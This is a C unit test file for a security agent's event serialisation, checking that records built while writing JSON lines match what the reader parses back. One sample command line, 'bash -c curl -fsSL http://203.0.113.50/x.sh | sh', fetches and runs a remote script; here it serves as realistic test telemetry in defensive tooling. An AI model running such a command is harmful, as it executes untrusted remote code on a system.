/*
 * test_event_record.c - agent_event_to_json_rec: the record built while an event is
 * rendered must be the one bn_record_parse_ndjson reads back from the line (keys, values,
 * types, the bytes they point at, raw, time, format, file, line), for every kind and for
 * hostile strings; when it cannot be (escapes, nested JSON, a second time key) it says so
 * and the caller parses. Local detection matches that record.
 * agent_event_to_json_rec_copy (what the agent uses): string values that needed escaping are
 * copied unescaped into the record's pool, so the record must hold what the reader reads back
 * for every kind and for hostile strings; it declines only what the reader would not give
 * back as the event's bytes (invalid UTF-8, anything non-ASCII among escapes), a key that
 * needed escaping, nested JSON or a second time key.
 */
#include <netinet/in.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include <cmocka.h>

#include "agent/event_json.h"
#include "bannin/error.h"
#include "bannin/reader.h"
#include "bannin/record.h"

static uint64_t rng = 0x9e3779b97f4a7c15ull;

static uint64_t
rnd(void)
{
    rng ^= rng << 13;
    rng ^= rng >> 7;
    rng ^= rng << 17;
    return rng;
}

/* Plain strings (a record is built) and hostile ones (escapes: the caller must parse). */
static const char *const plain[] = {
    "/usr/bin/bash", "bash -c curl -fsSL http://203.0.113.50/x.sh | sh", "", "/tmp/x y",
    "caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80", "/system.slice/docker-"
    "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope",
    "del\x7f", "1.2.3.4;5.6.7.8", "example.org",
};
static const char *const hostile[] = {
    "quote \" inside", "back\\slash", "tab\there", "nl\n", "bad \xff utf8", "ctl \x01",
    "gcc -DX=\\\"/work\\\" -c a.c", "caf\xc3\xa9 \"q\"",
};

static const char *
pick(bool allow_hostile)
{
    uint64_t r = rnd() % 16;
    if (r < 2)
        return NULL;
    if (allow_hostile && r == 15)
        return hostile[rnd() % (sizeof(hostile) / sizeof(hostile[0]))];
    return plain[rnd() % (sizeof(plain) / sizeof(plain[0]))];
}

static void
random_event(struct agent_event *ev, bool allow_hostile)
{
    static const enum agent_kind kinds[] = {
        AGENT_EV_PROCESS_CREATE, AGENT_EV_PROCESS_TERMINATE, AGENT_EV_NET_CONNECT,
        AGENT_EV_FILE_CREATE,    AGENT_EV_DNS_QUERY,         AGENT_EV_FILE_DELETE,
        AGENT_EV_FILE_WRITE,     AGENT_EV_FILE_RENAME,       AGENT_EV_FILE_ATTR,
        AGENT_EV_AUTH,           AGENT_EV_MODULE_LOAD,       AGENT_EV_BPF_LOAD,
        AGENT_EV_TAMPER,         AGENT_EV_STATUS,
    };
    static const char *const keys[] = {"user", "result", "service", "method", "detail",
                                       "time", "timestamp", "we\"ird"};
    memset(ev, 0, sizeof(*ev));
    ev->kind = kinds[rnd() % (sizeof(kinds) / sizeof(kinds[0]))];
    ev->tier = (enum agent_tier)(rnd() % 4);
    ev->ts_ns = 1795600800123456789LL + (int64_t)(rnd() % 100000000000ull);
    ev->seq = rnd() % 1000000;
    ev->proc.pid = 1 + (pid_t)(rnd() % 100000);
    ev->proc.start_ns = rnd() % (1ull << 50);
    ev->proc.uid = (uid_t)(rnd() % 3);
    ev->proc.euid = (uid_t)(rnd() % 3);
    ev->proc.loginuid = (uid_t)(rnd() % 3);
    ev->proc.sessionid = (uint32_t)(rnd() % 3);
    snprintf(ev->proc.comm, sizeof(ev->proc.comm), "c%u", (unsigned)(rnd() % 9));
    ev->proc.exe = (char *)pick(allow_hostile);
    ev->proc.cmdline = (char *)pick(allow_hostile);
    ev->proc.cwd = (char *)pick(allow_hostile);
    ev->proc.tty = (char *)pick(allow_hostile);
    if (rnd() % 4 == 0)
        snprintf(ev->proc.container_id, sizeof(ev->proc.container_id), "%s",
                 "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef");
    if (rnd() % 2)
        snprintf(ev->proc.sha256, sizeof(ev->proc.sha256), "%s",
                 "82c0aad1330a0c428ee3f9b7ff0d5ba7e5238c550c58c17aa4ed27382902e002");
    ev->proc.cmdline_truncated = rnd() % 8 == 0;
    ev->proc.exe_deleted = rnd() % 8 == 0;
    ev->parent.pid = (pid_t)(rnd() % 3 ? 1 + rnd() % 100000 : 0);
    ev->parent.exe = (char *)pick(allow_hostile);
    ev->parent.cmdline = (char *)pick(allow_hostile);
    ev->path = (char *)pick(allow_hostile);
    ev->path2 = (char *)pick(allow_hostile);
    ev->query = (char *)pick(allow_hostile);
    ev->answers = (char *)pick(allow_hostile);
    ev->exit_code = (int)(rnd() % 300) - 150;
    ev->proto = rnd() % 2 ? IPPROTO_TCP : IPPROTO_UDP;
    ev->family = rnd() % 2 ? AF_INET : AF_INET6;
    ev->initiated = rnd() % 2;
    ev->listen = rnd() % 4 == 0;
    for (int i = 0; i < 16; i++) {
        ev->saddr[i] = (uint8_t)rnd();
        ev->daddr[i] = (uint8_t)rnd();
    }
    ev->sport = (uint16_t)rnd();
    ev->dport = (uint16_t)rnd();
    ev->mode = rnd() % 2 ? 0755 : 0;
    ev->new_uid = (uid_t)(rnd() % 2000);
    ev->category = rnd() % 4 == 0 ? "persistence" : NULL;
    if (ev->kind >= AGENT_EV_AUTH) {
        ev->nextra = (uint32_t)(rnd() % 5);
        for (uint32_t i = 0; i < ev->nextra; i++) {
            size_t nk = allow_hostile ? 8 : 5;
            ev->extra_keys[i] = keys[rnd() % nk];
            ev->extra_vals[i] = (char *)pick(allow_hostile);
        }
    }
}

/* Compares a record with the reader's record of the same line: same keys, types and values.
 * copies NULL: every value points at the reader's bytes of the line (the direct record).
 * Otherwise a value outside the line is an unescaped copy and is counted in *copies; one in
 * the line must point at the reader's bytes. */
static void
same_record(const struct bn_record *a, const struct bn_record *b, const char *line,
            size_t *copies)
{
    if (a->n != b->n)
        fail_msg("%u pairs, the reader has %u: %s", a->n, b->n, line);
    for (uint32_t i = 0; i < a->n; i++) {
        const struct bn_kv *x = &a->kv[i], *y = &b->kv[i];
        if (x->key_len != y->key_len || memcmp(x->key, y->key, x->key_len) ||
            x->val_len != y->val_len || x->type != y->type ||
            (x->val == NULL) != (y->val == NULL) || (x->val && memcmp(x->val, y->val, x->val_len)))
            fail_msg("pair %u (%.*s) differs from the reader's: %s", i, (int)y->key_len, y->key,
                     line);
        bool in_line = x->val >= line && x->val <= line + a->raw_len;
        if (copies && !in_line)
            (*copies)++;
        else if (x->val != y->val)
            fail_msg("pair %u (%.*s) points elsewhere in the line: %s", i, (int)y->key_len,
                     y->key, line);
    }
    assert_ptr_equal(a->raw, b->raw);
    assert_int_equal(a->raw_len, b->raw_len);
    assert_true(a->ts_ns == b->ts_ns);
    assert_string_equal(a->format, b->format);
    assert_string_equal(a->file, b->file);
    assert_int_equal(a->index, b->index);
    assert_int_equal(a->line, b->line);
    assert_int_equal(a->offset, b->offset);
}

static void
run(bool allow_hostile, size_t *direct, size_t *parsed)
{
    struct bn_record mine, theirs;
    struct bn_buf b, plain_b;
    struct bn_diag d;
    assert_int_equal(bn_record_init(&mine), 0);
    assert_int_equal(bn_record_init(&theirs), 0);
    bn_buf_init(&b, 1 << 20);
    bn_buf_init(&plain_b, 1 << 20);
    agent_json_set_host("host-1", "0123abcd-1111-2222-3333-444455556666");
    for (int i = 0; i < 20000; i++) {
        struct agent_event ev;
        random_event(&ev, allow_hostile);
        bool ok = true;
        bn_buf_reset(&b);
        bn_buf_reset(&plain_b);
        assert_int_equal(agent_event_to_json_rec(&ev, &b, &mine, "agent", &ok), 0);
        /* the line itself is the one agent_event_to_json writes */
        assert_int_equal(agent_event_to_json(&ev, &plain_b), 0);
        assert_int_equal(b.len, plain_b.len);
        assert_memory_equal(b.p, plain_b.p, b.len);
        assert_int_equal(bn_record_parse_ndjson(&theirs, b.p, b.len, "agent", &d), 0);
        if (!ok) {
            (*parsed)++;
            /* only when some member needed escaping or is a second time key */
            if (!allow_hostile)
                fail_msg("no record for a plain event: %s", b.p);
            continue;
        }
        (*direct)++;
        same_record(&mine, &theirs, b.p, NULL);
    }
    bn_buf_release(&b);
    bn_buf_release(&plain_b);
    bn_record_release(&mine);
    bn_record_release(&theirs);
}

static void
test_plain_events(void **state)
{
    (void)state;
    size_t direct = 0, parsed = 0;
    run(false, &direct, &parsed);
    assert_int_equal(parsed, 0);
    assert_int_equal(direct, 20000);
}

static void
test_hostile_events(void **state)
{
    (void)state;
    size_t direct = 0, parsed = 0;
    run(true, &direct, &parsed);
    /* both ways are taken */
    assert_true(direct > 1000);
    assert_true(parsed > 1000);
}

/* A nested value (an alert's trigger) and escaped strings: no record, the caller parses. */
static void
test_declines(void **state)
{
    (void)state;
    struct bn_record rec;
    struct bn_buf b;
    assert_int_equal(bn_record_init(&rec), 0);
    bn_buf_init(&b, 1 << 20);
    struct agent_event ev;
    memset(&ev, 0, sizeof(ev));
    ev.kind = AGENT_EV_ALERT;
    ev.ts_ns = 1795600800123456789LL;
    ev.extra_keys[0] = "trigger";
    ev.extra_vals[0] = "{\"a\":1}";
    ev.extra_json = 1;
    ev.nextra = 1;
    bool ok = true;
    assert_int_equal(agent_event_to_json_rec(&ev, &b, &rec, "agent", &ok), 0);
    assert_false(ok);
    memset(&ev, 0, sizeof(ev));
    ev.kind = AGENT_EV_PROCESS_CREATE;
    ev.ts_ns = 1795600800123456789LL;
    ev.proc.pid = 7;
    ev.proc.cmdline = "say \"hi\"";
    bn_buf_reset(&b);
    ok = true;
    assert_int_equal(agent_event_to_json_rec(&ev, &b, &rec, "agent", &ok), 0);
    assert_false(ok);
    ev.proc.cmdline = "say hi";
    bn_buf_reset(&b);
    assert_int_equal(agent_event_to_json_rec(&ev, &b, &rec, "agent", &ok), 0);
    assert_true(ok);
    const struct bn_kv *kv = bn_record_get(&rec, "CommandLine");
    assert_non_null(kv);
    assert_int_equal(kv->val_len, 6);
    assert_memory_equal(kv->val, "say hi", 6);
    assert_true(rec.ts_ns == 1795600800123000000LL);
    bn_buf_release(&b);
    bn_record_release(&rec);
}

static void
test_copy_events(void **state)
{
    (void)state;
    struct bn_record mine, theirs;
    struct bn_buf b, plain_b;
    struct bn_diag d;
    size_t direct = 0, parsed = 0, copies = 0, plain_ok = 0;
    assert_int_equal(bn_record_init(&mine), 0);
    assert_int_equal(bn_record_init(&theirs), 0);
    bn_buf_init(&b, 1 << 20);
    bn_buf_init(&plain_b, 1 << 20);
    agent_json_set_host("host-1", "0123abcd-1111-2222-3333-444455556666");
    for (int i = 0; i < 40000; i++) {
        struct agent_event ev;
        bool hostile_ok = i % 2;
        random_event(&ev, hostile_ok);
        bool ok = false, ok_plain = false;
        bn_buf_reset(&b);
        bn_buf_reset(&plain_b);
        assert_int_equal(agent_event_to_json_rec_copy(&ev, &b, &mine, "agent", &ok), 0);
        assert_int_equal(agent_event_to_json(&ev, &plain_b), 0);
        assert_int_equal(b.len, plain_b.len);
        assert_memory_equal(b.p, plain_b.p, b.len);
        /* whatever agent_event_to_json_rec gives a record for, so does this */
        bn_buf_reset(&plain_b);
        assert_int_equal(agent_event_to_json_rec(&ev, &plain_b, &theirs, "agent", &ok_plain), 0);
        if (ok_plain) {
            plain_ok++;
            assert_true(ok);
        }
        if (!hostile_ok)
            assert_true(ok);
        assert_int_equal(bn_record_parse_ndjson(&theirs, b.p, b.len, "agent", &d), 0);
        if (!ok) {
            parsed++;
            continue;
        }
        direct++;
        same_record(&mine, &theirs, b.p, &copies);
    }
    /* all three ways are taken: plain records, records with copies, and declines */
    assert_true(copies > 1000);
    assert_true(parsed > 100);
    assert_true(direct > plain_ok);
    bn_buf_release(&b);
    bn_buf_release(&plain_b);
    bn_record_release(&mine);
    bn_record_release(&theirs);
}

/* agent_event_to_json_rec_copy: a quoted command line gets a record with its own bytes;
 * invalid UTF-8 and nested JSON do not. */
static void
test_copy_cases(void **state)
{
    (void)state;
    struct bn_record rec;
    struct bn_buf b;
    assert_int_equal(bn_record_init(&rec), 0);
    bn_buf_init(&b, 1 << 20);
    struct agent_event ev;
    memset(&ev, 0, sizeof(ev));
    ev.kind = AGENT_EV_PROCESS_CREATE;
    ev.ts_ns = 1795600800123456789LL;
    ev.proc.pid = 7;
    ev.proc.cmdline = "gcc -DX=\\\"/w\\\" -c a.c\t";
    bool ok = false;
    assert_int_equal(agent_event_to_json_rec_copy(&ev, &b, &rec, "agent", &ok), 0);
    assert_true(ok);
    const struct bn_kv *kv = bn_record_get(&rec, "CommandLine");
    assert_non_null(kv);
    assert_int_equal(kv->val_len, strlen(ev.proc.cmdline));
    assert_memory_equal(kv->val, ev.proc.cmdline, kv->val_len);
    assert_true(rec.ts_ns == 1795600800123000000LL);
    ev.proc.cmdline = "bad \"\xff\"";
    bn_buf_reset(&b);
    assert_int_equal(agent_event_to_json_rec_copy(&ev, &b, &rec, "agent", &ok), 0);
    assert_false(ok);
    memset(&ev, 0, sizeof(ev));
    ev.kind = AGENT_EV_ALERT;
    ev.ts_ns = 1795600800123456789LL;
    ev.extra_keys[0] = "trigger";
    ev.extra_vals[0] = "{\"a\":1}";
    ev.extra_json = 1;
    ev.nextra = 1;
    bn_buf_reset(&b);
    assert_int_equal(agent_event_to_json_rec_copy(&ev, &b, &rec, "agent", &ok), 0);
    assert_false(ok);
    bn_buf_release(&b);
    bn_record_release(&rec);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_plain_events),
        cmocka_unit_test(test_hostile_events),
        cmocka_unit_test(test_declines),
        cmocka_unit_test(test_copy_events),
        cmocka_unit_test(test_copy_cases),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
